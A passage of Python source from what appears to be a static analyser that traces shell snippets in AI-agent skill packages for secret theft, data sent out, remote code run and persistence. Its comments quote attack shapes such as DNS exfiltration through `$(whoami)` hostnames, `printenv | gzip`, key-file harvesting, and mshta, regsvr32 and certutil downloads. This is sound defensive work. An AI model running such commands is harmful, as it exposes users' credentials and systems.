                elif not inline and index + 1 < len(args) and args[index + 1].origins:
                    data.append(args[index + 1])
                index += 1 if inline else 2
                continue
            if text.startswith("-") and not arg.origins:
                index += 1
                continue
            if _URLISH.match(text) or (text and "." in text.split("/")[0] and not text.startswith((".", "/", "~"))):
                urls.append(text if "://" in text else f"https://{text}")
                if any(o.source is not Source.DECODED for o in arg.origins):  # a decoded address sends nothing
                    data.append(arg)
                    host_shape = text.split("://", 1)[-1].split("/", 1)[0]
                    if "*" in host_shape:  # https://$(whoami).zone/: the lookup of that name carries the data
                        self.dns(name, [Value(None, arg.origins, host_shape)], UNKNOWN, line)
            elif arg.text is None and arg.origins and all(o.source is Source.DECODED for o in arg.origins):
                urls.append("?")  # an address decoded at run time (curl $(echo … | base64 -d)) is still the address
            elif arg.text is None and arg.origins:
                data.append(arg)
            elif arg.text is None:
                urls.append("?")
            index += 1
        if name in ("invoke-restmethod", "irm", "invoke-webrequest", "iwr") and method in ("POST", "PUT"):
            data.append(stdin)
        if data or method:
            payload = " ".join(d.text or "" for d in data)
            for url in urls:
                self.grant(grants.api_grant(method or "POST", url, payload), line, name)
        if placeholders and not urls and not data:
            return UNKNOWN  # an elided command downloads nothing: there is nothing to fetch, so nothing runs
        result_origins: list[Origin] = []
        for url in urls or ["?"]:
            host = vocabulary.url_host(url) or ("?" if url == "?" else url)
            if data or method in ("POST", "PUT"):
                sent = Value(None, tokens_given_to_strangers(merged(*(d.origins for d in data)), body, host))
                self.out.egress(line, host, sent, "sends")
            # an address built at run time with data in it still answers: `-o file` keeps that answer
            if url != "?" or not data or output_file not in (None, "-"):
                result_origins.append(self.out.fetched(line, url))
        fetched = Value(None, tuple(result_origins))
        if name == "wget" and output_file is None:
            quiet_to_stdout = any((t or "").startswith("-") and "O" in (t or "") for t in texts) or "-O-" in texts
            if not quiet_to_stdout and urls:
                output_file = urls[0].rstrip("/").rsplit("/", 1)[-1] or "index.html"
        remote_name = any(re.fullmatch(r"-[a-zA-NP-Z]*O[a-zA-NP-Z]*|--remote-name", t or "") for t in texts)
        if name == "curl" and remote_name and urls and output_file in ("?", None):  # -O, -LO, -fsSLO
            output_file = urls[0].rstrip("/").rsplit("/", 1)[-1]
        if output_file is not None and output_file != "-":
            if output_file.rsplit("/", 1)[-1] == "SKILL.md" and result_origins:
                self.replaces_instructions(line, output_file, tuple(result_origins))
            label = vocabulary.persistence_target(output_file)
            if label is not None and result_origins:  # `curl -o .cursor/rules/x.mdc URL`: the server writes it
                self.persist(line, label, output_file, "", fetched)
            if result_origins:
                self.put_on_path(line, output_file, fetched, "")
            self.files[output_file] = fetched
            self.files["./" + output_file.lstrip("./")] = fetched
            return UNKNOWN
        return fetched

    def put_on_path(self, line: int, destination: str, content: Value, source: str) -> None:
        """A download written into a folder of programs on PATH (``curl -o /usr/local/bin/jq URL``,
        ``install -m 755 tool ~/.local/bin/``) is run whenever its name is typed, by the user, the
        agent or any script: the download runs, as ``./tool`` after it would. A download from an
        official installer's address is judged as that installer (the allow-list, in combine)."""
        folder, _, program = destination.rstrip("/").rpartition("/")
        if destination.endswith("/") or not program:
            folder, program = destination.rstrip("/"), source.rsplit("/", 1)[-1]
        if vocabulary.home_path(folder).rstrip("/") in _PROGRAM_FOLDERS and program:
            self.out.executes(line, content, f"puts it on PATH as {program} ({folder}/{program}), run whenever called")

    def operand_text(self, word: str | None, stdin: Value) -> str | None:
        """A file operand as the constant text the skill wrote into it, ``-`` as the text on stdin
        (``gh repo deploy-key add - <<< "ssh-…"``), any other word as itself."""
        content = stdin if word == "-" else self.files[word] if word is not None and word in self.files else None
        return content.text if content is not None and content.text else word

    def grant(self, granted: str | None, line: int, how: str) -> None:
        """Access to the user's repository or account given to a key or account the skill names."""
        if granted is not None:
            self.out.emit(Kind.PERSISTENCE, granted, self.out.at(line, f"grants {granted} ({how})"))

    def upload_value(self, value: Value, stdin: Value, line: int, flag: str = "") -> Value:
        text = value.text or ""
        if value.text is None and _named_file((value.shape or "").lstrip("@")):
            text = value.shape or ""  # -T "$STAGE/s.tgz", -d @"$STAGE/s.json": the file another step wrote
        elif value.text is None and _written_here(value.shape, self.files):
            text = value.shape or ""  # -d @/tmp/.job-$1: spelled as the script spelled the file it wrote
        if text in ("@-", "-"):
            return stdin
        if flag in ("--post-file", "--body-file", "-T", "--upload-file", "-InFile", "-infile") and text:
            text = "@" + text
        path = text[1:] if text.startswith("@") else ""
        for form in ("=@", "=<"):  # -F "file=@PATH" uploads the file, -F "summary=<PATH" its text
            if not path and form in text:
                path = text.split(form, 1)[1]
        if path:
            path = path.split(";")[0]
            if path == "-":  # -F "capture=@-;filename=c.gz", -F "log=<-": the form part is what stdin holds
                return stdin
            if path in self.files:
                return self.files[path]
            origin = self.out.secret_read(line, path, "reads")
            if origin is not None:
                return Value(None, (origin,))
        return value

    def decode(
        self, name: str, args: list[Value], texts: list[str | None], stdin: Value, line: int, redirects: list[Node]
    ) -> Value:
        if name == "certutil" and any((t or "").lower() in ("-urlcache", "/urlcache") for t in texts):
            return self.download(name, args, texts, stdin, line, redirects)  # certutil -urlcache -f URL FILE
        flags = " ".join(t or "" for t in texts)
        decoding = (
            (name in ("base64", "base32", "basenc") and re.search(r"(?:^|\s)-(?:-decode|[a-zA-Z]*[dD])\b", flags))
            or (name == "xxd" and "-r" in flags)
            or (name == "openssl" and (re.search(r"\benc\b.*-d\b|-d\b.*\benc\b|\bbase64\b.*-d\b", flags) is not None))
            or name in ("gunzip", "zcat", "bunzip2", "unxz", "uudecode")
            or (name in ("gzip", "bzip2", "xz", "zstd") and re.search(r"(?:^|\s)-[a-zA-Z]*d", flags))
            or name == "rev"
            or (name == "tr" and re.search(r"[nN]-[zZ]", flags) is not None)
            or (name == "certutil" and "-decode" in flags.lower())
        )
        if name == "openssl" and texts and texts[0] == "s_client":
            return self.raw_socket(name, args, texts, stdin, line, redirects)
        if name == "tr" and stdin.text is not None:
            translated = translate(stdin.text, [t for t in texts if t is not None])
            if translated is not None:  # tr's sets folded: rot13 or any other substitution, -d, -s
                how = (self.out.decoded(line, "with tr"),) if decoding else ()
                return Value(translated, merged(stdin.origins, how))
        if not decoding:
            origins = list(stdin.origins)
            for arg in args:
                origins.extend(arg.origins)
            origins.extend(self.reads(name, args, line))
            if name in _ENCODERS:
                origins.append(Origin(Source.ENCODED, name, self.out.at(line, f"encodes the data with {name}")))
            packed = Value(None, merged(tuple(origins)))
            output = _compressed_into(name, args)
            if output is not None and packed.origins:
                self.files[output] = packed  # `tar cf - dir | zstd -o "$name.tar.zst"`: the file holds it
                return UNKNOWN
            return packed
        source = stdin
        files = [a for a in args if a.text and not a.text.startswith("-") and a.text not in ("enc", "base64")]
        written = None
        if name == "certutil" and len(files) >= 2:  # certutil -decode IN OUT writes OUT, never stdout
            files, written = files[:-1], files[-1].text
        last = files[-1].text if files else None
        if last is not None and last in self.files:
            source = self.files[last]
        elif files:
            read = self.reads(name, files, line)
            if read:
                source = Value(None, tuple(read))
        origin = self.out.decoded(line, f"with {name}")
        text = None
        if source.text is not None and name in ("base64", "base32", "basenc", "xxd", "openssl"):
            codec = {"base64": "base64", "base32": "base32", "xxd": "hex"}.get(name, "")
            if name == "basenc" and "--base" in flags:
                codec = "base32" if "--base32" in flags else "base64"
            decoded = decode_named(source.text, codec)
            if decoded is not None:
                text = decoded.text
                origin = self.out.decoded(line, f"{'+'.join(decoded.layers)} with {name}")
        elif source.text is not None and name == "rev":
            text = source.text.strip()[::-1]
        if written is not None:
            self.files[written] = Value(text, merged(source.origins, (origin,)))
            return UNKNOWN
        return Value(text, merged(source.origins, (origin,)))

    def run_written(self, path: str, line: int) -> None:
        """A script this snippet wrote with parts known only at run time, now run: read as shell, its
        findings led by the line that wrote it."""
        shape, written = self.scripts_written[path]
        before = len(self.out.found)
        self.nested(Value(shape), line)
        self.led_by(before, [self.out.at(written, f"writes the script {path}")])

    def submit_job(
        self, name: str, args: list[Value], texts: list[str | None], stdin: Value, line: int, redirects: list[Node]
    ) -> Value:
        """A batch scheduler handed a job script (``sbatch job.sh``, ``qsub run.pbs``, ``bsub < job``,
        ``sbatch --wrap "…"``): the script runs as a shell script, on this machine
        or a cluster node with the user's home, so it is read as one run by ``sh``."""
        for index, text in enumerate(texts):
            wrapped = re.fullmatch(r"--wrap(?:=(.*))?", text or "", re.DOTALL)
            if wrapped is not None:
                given = Value(wrapped.group(1)) if wrapped.group(1) is not None else next(iter(args[index + 1 :]), None)
                if given is not None:
                    return self.shell("sh", [Value("-c"), given], ["-c", given.text], stdin, line, redirects)
        for index, value in enumerate(args):
            if value.pattern and (
                value.pattern in self.files
                or value.pattern in self.scripts_written
                or _SCRIPT_FILE.search(value.pattern)
            ):
                return self.shell("sh", args[index:], texts[index:], stdin, line, redirects)
        # no script named: the scheduler reads the job from stdin (`sbatch -J x <<EOF`, `echo "…" | qsub`)
        return self.shell("sh", [], [], stdin, line, redirects) if stdin.text or stdin.origins else UNKNOWN

    def shell(
        self, name: str, args: list[Value], texts: list[str | None], stdin: Value, line: int, redirects: list[Node]
    ) -> Value:
        code_flag = {"-c", "-Command", "-command", "/c", "/C", "-e", "-E", "--eval", "-p", "--print", "-r"}
        interpreter = name in vocabulary.INTERPRETERS and name not in vocabulary.SHELLS
        remote_content = _remote_content_run(name, texts)
        if remote_content:  # mshta URL, regsvr32 /i:URL scrobj.dll: the program fetches the script and runs it
            self.out.executes(line, Value(None, (self.out.fetched(line, remote_content),)), f"runs it ({name})")
            return UNKNOWN
        if name in _POWERSHELL_HOSTS and any((t or "").lower() in _ENCODED_FLAGS for t in texts):
            # PowerShell's own flags (-EncodedCommand's UTF-16 base64, -W Hidden) are the PowerShell
            # analyser's to read: a batch file or a shell step starting PowerShell hands it the line
            words = [name, *(t if t is not None else "$unknown" for t in texts)]
            self.inline(" ".join(w if re.fullmatch(r"[\w./:=+-]+", w) else _ps_quoted(w) for w in words), line,
                        "powershell")  # fmt: skip
            return UNKNOWN
        command_at = next((i for i, t in enumerate(texts) if _powershell_command_flag(t)), None)
        if name in _POWERSHELL_HOSTS and command_at is not None and command_at + 1 < len(args):
            # -Command's text is PowerShell, whatever prefix of -Command names it (-C, -Co, -command)
            code = joined(args[command_at + 1 :], " ")
            if code.text is not None:
                self.inline(code.text, line, "powershell")
            return UNKNOWN
        if name in ("eval", "iex", "invoke-expression") or (name == "exec" and args):
            code = joined(args, " ") if name in ("eval",) else (joined(args, " ") if args else stdin)
            if name in ("iex", "invoke-expression") and not args:
                code = stdin
            self.out.executes(line, code, f"runs it ({name})")
            if name == "eval" and code.text is None and code.shape:
                # `eval "exec 7<>$(endpoint)"` with a piece unknown (a port from the environment): the
                # known words still run, the unknown pieces read as a variable nothing sets
                code = Value(code.shape.replace("*", "${__unknown_piece}"), code.origins)
            self.nested(code, line, stdin if name == "eval" else UNKNOWN, same_shell=name == "eval")
            return UNKNOWN
        if name in ("source", "."):
            target = args[0] if args else UNKNOWN
            # a file named with an unknown part ("$tmp.$$") is found by its pattern, as the download kept it
            content = self.files.get(target.pattern or "", target) if target.pattern else target
            if target.text in ("/dev/stdin", "-", "/proc/self/fd/0"):
                content = stdin
            self.out.executes(line, content, f"runs it ({name} {target.pattern or '?'})")
            if target.text is not None and target.text in self.files and content.text:
                before = len(self.out.found)
                self.nested(content, line)  # a file a step wrote (or several steps pieced together), sourced
                self.led_by(before, self.writers(target.text, line))
            self.settings_from(target)
            self.assigned_from_written(content)
            return UNKNOWN
        if interpreter and name.startswith("python"):
            self.code_handed_to_runner(args, line)
        index = 0
        while index < len(texts):
            text = texts[index]
            bundled_flag = (name in ("perl", "ruby") and re.fullmatch(r"-[a-zA-Z]*[eE]", text or "") is not None) or (
                name in _POSIX_SHELLS and _BUNDLED_COMMAND_FLAG.fullmatch(text or "") is not None
            )
            if (text in code_flag or bundled_flag) and index + 1 < len(args):  # perl -ne, ruby -pe
                # cmd /c takes the rest of its line as the command (cmd /c start mshta URL)
                code = joined(args[index + 1 :], " ") if name in ("cmd", "cmd.exe") else args[index + 1]
                fetched_url = _INLINE_FETCH_AND_RUN.search(code.text or "") if name in _UNPARSED else None
                if fetched_url is not None:  # ruby/perl/php: a URL read and handed to eval/system
                    fetched = Value(None, (self.out.fetched(line, fetched_url.group(1)),))
                    self.out.executes(line, fetched, f"runs it ({name} {text})")
                if interpreter and code.text is None and code.shape and name in ("python", "python3", "node"):
                    # `python3 -c "…urlopen('$ACT')…"` with the URL made at run time: the program is
                    # still the one written, its unknown pieces standing as `*`, as `sh -c` reads it
                    code = _with_unknowns_shown(code)
                if interpreter and code.text and _INLINE_SOCKET.search(code.text):
                    address = _INLINE_ADDRESS.search(code.text)
                    host = address.group(1) if address else "?"
                    shell = _INLINE_SHELL.search(code.text) is not None
                    self.out.emit(
                        Kind.RAW_SOCKET, f"{host}" + (" (remote shell)" if shell else ""),
                        self.out.at(line, f"{name} opens a raw connection to {host}"
                                    + (" and hands it a shell" if shell else "")),
                    )  # fmt: skip
                self.out.executes(line, code, f"runs it ({name} {text})")
                if name == "osascript" and code.text:  # osascript -l JavaScript -e …: JXA
                    self.inline(code.text, line, "javascript" if "JavaScript" in texts[:index] else "applescript")
                    asked = self.password_asked(name, texts, line)
                    if asked is not None:
                        return asked
                elif not interpreter:
                    self.nested(_with_unknowns_shown(code), line, stdin)  # `sh -c '…'` reads the stdin it was given
                elif name in ("python", "python3") and code.text:
                    self.python(_argv_written_in(code.text, args[index + 2 :]), line)
                elif name in ("node", "nodejs", "bun", "deno") and code.text:
                    self.inline(code.text, line, "javascript")
                elif name in _LIGHTLY_READ and code.text and fetched_url is None:
                    self.inline(code.text, line, "scripting")
                elif name in _DIALECT_HOSTS and code.text:
                    self.inline(code.text, line, _DIALECT_HOSTS[name])
                if interpreter and code.text and _DECODING_CODE.search(code.text):
                    return self.decoded_stdin(stdin, line, f"with {name} {text} …")  # what it prints is decoded
                if interpreter:
                    return self.list_printed(name, [code, *args[index + 2 :]], line)
                return UNKNOWN
            if text == "-m" and name in ("python", "python3") and index + 1 < len(texts) and texts[index + 1] == "pip":
                return self.install("pip", args[index + 2 :], texts[index + 2 :], stdin, line, redirects)
            module = texts[index + 1] if text == "-m" and index + 1 < len(texts) else None
            if module in ("base64", "gzip") and any(t in ("-d", "--decode") for t in texts[index + 2 :]):
                return self.decoded_stdin(stdin, line, f"with {name} -m {module}")
            if name in _POWERSHELL_HOSTS and _POWERSHELL_VALUE_FLAG.fullmatch(text or ""):
                index += 2  # -WindowStyle Hidden, -ExecutionPolicy Bypass: the word after is the flag's
                continue
            if text is not None and text.startswith("-") and text not in ("-", "-s", "-i"):
                index += 1
                continue
            break
        rest = texts[index:]
        if not rest or rest[0] in ("-", "-s", "/dev/stdin", "-i"):
            self.out.executes(line, stdin, f"pipes it into {name}")
            if name in _POWERSHELL_HOSTS and stdin.text and not stdin.origins:
                self.code_on_stdin(name, stdin.text, [], line)  # `pwsh -Command - <<'X'`: PowerShell, not sh
                return UNKNOWN
            if stdin.text is not None and not interpreter:
                self.nested(stdin, line)
            if interpreter:
                if stdin.text and not stdin.origins and name in _STDIN_LANGUAGES:
                    read = self.code_on_stdin(name, stdin.text, args[index + 1 :] if rest else [], line)
                    return Value(None, secrets_read(read))  # `python3 - > ctx.json <<'PY'`: what it prints
                return UNKNOWN
            session = self.out.at(line, f"runs {name} on commands it reads")
            return Value(None, (Origin(Source.SHELL, name, session),))
        target = args[index]
        if name.startswith("python") and index > 0 and texts[index - 1] == "-m" and target.text:
            target = _module_script(target)  # `python3 -m tools.collect` runs tools/collect.py
        content = self.files.get(target.pattern or "", target) if target.pattern else target
        if (
            not content.origins
            and target.pattern
            and _SCRIPT_FILE.search(target.pattern)
            and target.pattern not in self.files
        ):
            # a script another snippet saved under a folder the analysers could not fold (__dirname,
            # $PSScriptRoot): the same file name, downloaded, is what runs
            named = self.files.named(target.pattern.rsplit("/", 1)[-1])
            if named is not None and named.of(Source.FETCHED):
                content = named
        if content.origins:
            self.out.executes(line, content, f"runs it ({name} {target.pattern or '?'})")
        elif target.text is not None and target.text in self.files and content.text and not interpreter:
            before = len(self.out.found)
            self.nested(content, line)  # a script the snippet wrote itself, then runs
            self.led_by(before, self.writers(target.text, line))
        elif target.text is not None and target.text in self.files and content.text and name in _STDIN_LANGUAGES:
            # `node .helper.cjs` after a step wrote .helper.cjs (joined from parts the skill ships): the
            # program that runs is the written text, read in the interpreter's language
            before = len(self.out.found)
            self.written_program(content.text, line, _STDIN_LANGUAGES[name], f"{name} {target.text}")
            self.led_by(before, self.writers(target.text, line))
        elif not interpreter and target.pattern in self.scripts_written:
            self.run_written(target.pattern or "", line)
        elif target.text is not None and self.extracted is not None and not target.text.startswith(("/usr", "/bin")):
            self.out.executes(line, self.extracted, f"runs it ({name} {target.shown})")
        self.piped_into_script(target.pattern or "", stdin, line)
        self.handed_to_script(target.pattern or "", args[index + 1 :], line)
        if name in _POSIX_SHELLS:
            self.run_with_secrets(target.pattern or "", args[index + 1 :], line)
            self.filled_by_script(target.pattern or "", args[index + 1 :], line)
            self.fetched_by_script(target.pattern or "", args[index + 1 :], line)
        self.copied_by_script(target.pattern or "", args[index + 1 :], line)
        return script_output(target.pattern or "") or UNKNOWN

    def package_script(self, texts: list[str | None], stdin: Value, line: int) -> Value:
        """``npm run NAME`` (``-s`` and other flags aside): the skill's ``package.json`` script of that
        name, read as the shell line it is; its output is what that line prints (``npm run -s gen | sh``
        runs what the generator script prints)."""
        name = next((t for t in texts if t and not t.startswith("-")), None)
        command = package_scripts(BUNDLED.get() or {}).get(name) if name else None
        if command is None or self.depth >= MAX_DEPTH:
            return UNKNOWN
        inner = self.inner(dict(self.variables), self.depth + 1)
        inner.pinned = line
        return inner.statements(budget.parse(_parser(), _prepare(command)).root_node, stdin)

    def writers(self, path: str, line: int) -> list[Evidence]:
        """Where the skill's files write the file ``path`` names (a redirect to it, a ``write`` or
        ``open`` naming it): the pieces of what runs when it is sourced, as links of the chain."""
        name = path.rstrip("/").rsplit("/", 1)[-1]
        table = BUNDLED.get() or {}
        own = self.out.snippet
        prefix = own.path[: -len(own.rel)] if own.rel and own.path.endswith(own.rel) else ""
        found: list[Evidence] = []
        for rel, text in sorted(table.items(), key=lambda item: item[0] != "SKILL.md"):  # the steps first
            if len(name) < 3 or name not in text:
                continue
            for number, written in enumerate(text.split("\n"), start=1):
                if name in written and _WRITES_FILE.search(written) and not _SOURCES_FILE.search(written):
                    if rel == own.rel and number == own.first_line + line - 1:
                        continue
                    what = f"writes part of {name}: {shown_line(written.strip())}"
                    found.append(Evidence(prefix + rel, number, what))
                    if len(found) >= 4:
                        return found
        return found

    def led_by(self, before: int, links: list[Evidence]) -> None:
        """The capabilities found since ``before`` opened with ``links`` (where what ran was written)."""
        if not links:
            return
        for index in range(before, len(self.out.found)):
            capability = self.out.found[index]
            chain = (*links, *(e for e in capability.chain if e not in links))
            self.out.found[index] = Capability(capability.kind, capability.detail, chain, capability.snippet)

    def piped_into_script(self, path: str, stdin: Value, line: int) -> None:
        """A secret piped into a bundled script that sends its input: sent to that script's host."""
        sink = script_input_sink(path) if stdin.origins else None
        if sink is not None:
            rel, host = sink
            self.out.egress(line, host, stdin, f"pipes it into {rel}, which sends")

    def test_report(self, texts: list[str | None]) -> None:
        """``pytest --junitxml=PATH``: the report holds what the skill's test plugins recorded into it."""
        recorded = self.files.get(TEST_REPORT, UNKNOWN)
        if not recorded.origins:
            return
        for index, text in enumerate(texts):
            flag, _, path = (text or "").partition("=")
            if flag in ("--junitxml", "--junit-xml") and not path and index + 1 < len(texts):
                path = texts[index + 1] or ""
            if flag in ("--junitxml", "--junit-xml") and path:
                self.files[path] = recorded

    def names_in_list_file(self, name: str, texts: list[str | None]) -> list[Value]:
        """The paths a list file handed to an archiver or copier names (``tar -T files.txt``,
        ``rsync --files-from=files.txt``), when an earlier command or step wrote it with known text. A
        list with a line only known at run time (``ls config/*.yaml``, ``"$PWD/.env"``) still names
        the others."""
        listed = _list_file_operand(name, texts)
        written = self.files.get(listed) if listed else None
        if written is None or not written.pattern:
            return []
        words = [w for w in written.pattern.split() if w.strip("*")]
        return [Value(w) for w in words[:_MAX_LISTED_NAMES]]

    def listed_secret_files(self, name: str, texts: list[str | None]) -> tuple[Origin, ...]:
        """The secret stores in a list file handed to an archiver or copier (``tar -T index.txt``) that
        another command filled with the paths of secret files (``find ~ -name '*.pem' > index.txt``):
        the archiver reads the files the list names, whatever their names turn out to be."""
        listed = _list_file_operand(name, texts)
        written = self.files.get(listed) if listed else None
        return tuple(o for o in written.origins if o.source is Source.SECRET) if written is not None else ()

    def list_printed(self, name: str, given: list[Value], line: int) -> Value:
        """What a one-line program prints from a bundled data file it opens or is handed (``python3 -c
        "…open('$CFG')…"``, ``node -e "…require('./list.json')…"``): the secret stores the file lists,
        when the script copies what it is given. A shell reading paths out of a config by a small
        program, then copying each, reads what the config lists as surely as with ``yq``."""
        for value in given:
            text = value.pattern or value.text or ""
            if "." not in text:
                continue
            for path in _DATA_FILE_NAMED.findall(text)[:4]:
                stores = self.listed_stores(name, [Value(path)], line)
                if stores:
                    return Value(None, tuple(stores))
        code = (given[0].pattern or given[0].text or "") if given else ""
        setting = _printed_setting(code) if "print" in code else None
        return Value(setting) if setting is not None else UNKNOWN

    def listed_stores(self, name: str, args: list[Value], line: int) -> list[Origin]:
        """A bundled data file listing secret stores as paths (a backup's "extra" folders) read by a
        script that copies or archives files: the script reads what the list names, each store shown
        at the line of the list that names it, then where the script reads the list."""
        for arg in args:
            path = arg.pattern or arg.text or ""
            listed = listed_secret_stores(path) if path.lower().endswith(DATA_SUFFIXES) else []
            if not listed or not _COPIES_FILES.search(self.out.snippet.text):
                continue
            rel = bundled_rel(path) or path
            return self.listed_origins(path, f"reads the paths {rel} lists ({name}) and copies what they name", line)
        return []

    def listed_origins(self, path: str, how: str, line: int) -> list[Origin]:
        """The secret stores the bundled data file ``path`` lists, each read at the line of the list
        that names it, then at ``line`` where the code reads the list (``how``)."""
        listed = listed_secret_stores(path) if path.lower().endswith(DATA_SUFFIXES) else []
        if not listed:
            return []
        rel = bundled_rel(path) or path
        data = bundled_text(path)
        text = (data.text or "") if data is not None else ""
        read = self.out.at(line, how)
        found: list[Origin] = []
        for store, what in listed[:5]:
            with self.out.placed_in(rel):
                named = self.out.at(text.count("\n", 0, max(text.find(store), 0)) + 1, f"lists {what}: {store}")
            self.out.emit(Kind.SECRET_READ, what, named, read)
            found.append(Origin(Source.SECRET, what, named))
        return found

    def handed_to_script(self, path: str, args: list[Value], line: int) -> None:
        """A file or folder holding secrets handed to a bundled script that sends data: sent to its host."""
        sink = script_argument_sink(path)
        if sink is None:
            return
        rel, host = sink
        for arg in args:
            if self.handed_store_list(rel, host, arg.pattern or arg.text or "", line, args):
                return
            held = self.held_secrets(arg.pattern or arg.text or "")
            if host == "?":
                # a sender whose host is given at run time: a file another step filled from secret
                # stores still goes wherever that is; the environment or a mere list needs a known host
                held = tuple(o for o in held if o.source is Source.SECRET)
                if held:
                    self.out.egress(
                        line, host, Value(None, held), f"hands {arg.pattern or arg.shown} to {rel}, which sends"
                    )
                    return
                continue
            printed = printed_path_secrets() if not held and _FILLED_IN.fullmatch(arg.text or "") else None
            if printed is not None:  # `push.sh <archive>`: the path the skill's one such script prints
                held = tuple(o for o in printed[1] if o.source in (Source.SECRET, Source.ENV))
                handed = f"hands {arg.text} (the path {printed[0]} prints of a file it filled) to {rel}, which sends"
                self.out.egress(line, host, Value(None, held), handed)
                return
            held = held or self.named_store(rel, arg, line)
            if held:
                handed = f"hands {arg.pattern or arg.shown} to {rel}, which sends"
                self.out.egress(line, host, Value(None, held), handed)
                return

    def run_with_secrets(self, path: str, args: list[Value], line: int) -> None:
        """A bundled shell script that does not send, run with a file another step filled from secret
        stores (``bash scripts/pack.sh /tmp/index.txt`` after ``find ~ -name '*.pem' > /tmp/index.txt``):
        its code read with ``$1`` … bound to those words, so what it writes from them (an archive of
        the files the list names) carries the secrets to the step that sends it."""
        if self.depth >= MAX_DEPTH or not args or script_argument_sink(path) is not None:
            return
        if not any(self.held_secrets(arg.pattern or arg.text or "") for arg in args[:9]):
            return
        code = bundled_text(path) if bundled_rel(path) is not None else None
        if code is None or not code.text:
            return
        saved = {key: self.variables.get(key) for key in _POSITIONAL}
        self.positional(args)
        try:
            self.nested(code, line)
        finally:
            for key, value in saved.items():
                if value is None:
                    self.variables.pop(key, None)
                else:
                    self.variables[key] = value

    def _walk_with_arguments(self, rel: str, text: str, args: list[Value]) -> dict[str, Value]:
        """Walk a bundled shell script's code in its own file with ``$1`` … bound to ``args``, keeping
        only the files it writes (its findings are its own); the file table as it was before."""
        inner = self.inner({}, self.depth + 1)
        inner.functions, inner.calling = {}, []
        inner.positional(args)
        inner.offset, inner.pinned, inner.stdin = 0, None, UNKNOWN
        before, written = len(self.out.found), self.files.own()
        try:
            with self.out.placed_in(rel):
                inner.statements(budget.parse(_parser(), _prepare(text)).root_node, UNKNOWN)
        finally:
            del self.out.found[before:]
        return written

    def filled_by_script(self, path: str, args: list[Value], line: int) -> None:
        """A bundled shell script that reads secrets or the whole environment itself, run with the path
        it writes them into (``sh scripts/bundle.sh .build/bundle.txt`` where the script does
        ``out="$1"; printenv | gzip > "$out"``): its code read in its own file with ``$1`` … bound to
        the words handed, so the file or folder named holds what it wrote, for the command or step that
        sends it. Only the files it writes are kept: what the script does itself is its own finding."""
        if self.depth >= MAX_DEPTH or not args or script_argument_sink(path) is not None:
            return
        read = script_output(path)
        rel = bundled_rel(path) if read is not None and read.origins else None
        code = bundled_text(path) if rel is not None else None
        text = (code.text or "")[:65536] if code is not None else ""
        if rel is None or not text or not reads_its_arguments(text) or not _WRITES_A_FILE.search(text):
            return
        if not any(arg.text and not arg.text.startswith("-") for arg in args[:9]):
            return
        written = self._walk_with_arguments(rel, text, args)
        handed = {arg.text for arg in args[:9] if arg.text}
        for where, value in self.files.own().items():
            held = tuple(o for o in value.origins if o.source in (Source.SECRET, Source.ENV))
            if not held or written.get(where) == value:
                continue
            named = next((word for word in handed if where == word or where.startswith(word.rstrip("/") + "/")), None)
            if named is None:
                continue  # a file of its own choosing: what it holds is already in the table
            what = "the environment" if held[0].source is Source.ENV else held[0].detail
            hand = self.out.at(line, f"hands {named} to {rel}, which writes {what} into it")
            links = tuple(Origin(o.source, o.detail, hand) for o in held[:1])
            self.files[where] = dataclasses.replace(value, origins=merged(value.origins, links))

    def fetched_by_script(self, path: str, args: list[Value], line: int) -> None:
        """A bundled shell script that downloads into the file or folder it is handed (``bash
        tools/fetch.sh "$url" .tools/x`` where the script does ``curl "$1" | tar -x -C "$2"``): its code
        read in its own file with ``$1`` … bound to the words handed, so the place named holds the
        download, for the command that runs something out of it (``sh .tools/x/setup.sh``). Only the
        places it is handed are kept: the download itself is the script's own finding."""
        if self.depth >= MAX_DEPTH or not args:
            return
        rel = bundled_rel(path)
        code = bundled_text(path) if rel is not None else None
        text = (code.text or "")[:65536] if code is not None else ""
        if rel is None or not text or not reads_its_arguments(text) or not _DOWNLOAD_WORDS.search(text):
            return
        handed = {(arg.pattern or arg.text or "").rstrip("/") for arg in args[:9]}
        handed = {word for word in handed if word and not word.startswith("-") and word.strip("*/")}
        if not handed:
            return
        written = self._walk_with_arguments(rel, text, args)
        for where, value in self.files.own().items():
            fetched = value.of(Source.FETCHED)
            if not fetched or written.get(where) == value:
                continue
            named = next((word for word in handed if where == word or where.startswith(word + "/")), None)
            if named is None:
                continue
            hand = self.out.at(line, f"hands {named} to {rel}, which downloads into it")
            links = tuple(Origin(o.source, o.detail, hand) for o in fetched[:1])
            self.files[where] = dataclasses.replace(value, origins=merged(value.origins, links))
            if where.endswith(UNPACKED):  # an archive went there: a file run from it after `cd` runs the download
                self.handed_downloads[vocabulary.home_path(named).rstrip("/")] = Value(None, merged(fetched, links))

    def copied_by_script(self, path: str, args: list[Value], line: int) -> None:
        """A bundled script that copies files by the paths it is handed, run with a data file of the
        skill listing secret stores and a destination (``python3 scripts/collect.py items.txt out/``):
        the destination then holds those stores, for the step that archives or sends it."""
        words = [arg.pattern or arg.text or "" for arg in args[:9]]
        lists = [word for word in words if word.lower().endswith(DATA_SUFFIXES)]
        if not lists or len(words) < 2:
            return
        code = bundled_text(path) if bundled_rel(path) is not None else None
        text = (code.text or "")[:65536] if code is not None else ""
        if not text or not reads_its_arguments(text) or not _COPIES_BY_PATH.search(text):
            return
        for listed in lists:
            how = f"hands {listed} to {bundled_rel(path)}, which copies the paths it lists"
            found = self.listed_origins(listed, how, line)
            if found:
                for word in words:
                    if word and word != listed and not word.startswith("-"):
                        self.files[word.rstrip("/") or word] = Value(None, tuple(found))
                return

    def named_store(self, script: str, arg: Value, line: int) -> tuple[Origin, ...]:
        """A secret store named outright (``--env .env``, ``~/.aws/credentials``) handed to a bundled
        script that reads files by path and sends data: the store is read, whatever the script's flow."""
        store = vocabulary.secret_store(arg.text) if arg.text and not arg.text.startswith("-") else None
        code = bundled_text(script) if store is not None else None
        if store is None or code is None or _READS_LISTED_FILES.search(code.text or "") is None:
            return ()
        read = self.out.at(line, f"hands {arg.text} ({store}) to {script}, which reads files by path")
        self.out.emit(Kind.SECRET_READ, store, read)
        return (Origin(Source.SECRET, store, read),)

    def handed_store_list(self, script: str, host: str, path: str, line: int, given: list[Value] | None = None) -> bool:
        """A bundled data file listing secret stores handed to a script that reads files by what it
        is handed and sends (``node scan.js assets/targets.yml``): the stores go to the script's host,
        or, when the script takes its host at run time, to the endpoint the same file names, one the
        command hands it beside the list (``--endpoint https://…``), or, when the command leaves a
        placeholder for the agent to fill (``--endpoint <from step 3>``), the host the skill's own
        Markdown gives."""
